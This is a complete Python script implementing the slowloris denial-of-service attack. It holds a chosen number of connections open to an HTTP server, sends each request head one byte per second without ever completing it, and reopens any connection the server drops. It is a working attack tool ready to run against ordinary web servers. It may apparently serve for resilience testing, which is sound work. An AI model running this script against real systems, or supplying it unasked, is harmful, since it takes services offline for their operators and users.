#!/usr/bin/env python3
"""slowloris.py HOST PORT CONNECTIONS SECONDS: holds CONNECTIONS connections to an HTTP server,
each sending its request head one byte per second and never finishing it; a connection the
server closes is opened again at once. Prints "opened=N reopened=M" at the end."""
import socket
import sys
import time


def connect(host, port):
    s = socket.create_connection((host, port), timeout=2)
    s.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: ")
    return s


def main():
    host, port, n, secs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    socks, opened, reopened = [], 0, 0
    for _ in range(n):
        try:
            socks.append(connect(host, port))
            opened += 1
        except OSError:
            socks.append(None)
    end = time.monotonic() + secs
    while time.monotonic() < end:
        for i, s in enumerate(socks):
            try:
                if s is None:
                    raise OSError("closed")
                s.send(b"a")
            except OSError:
                if s is not None:
                    s.close()
                try:
                    socks[i] = connect(host, port)
                    opened += 1
                    reopened += 1
                except OSError:
                    socks[i] = None
        time.sleep(1)
    for s in socks:
        if s is not None:
            s.close()
    print(f"opened={opened} reopened={reopened}", flush=True)


if __name__ == "__main__":
    main()
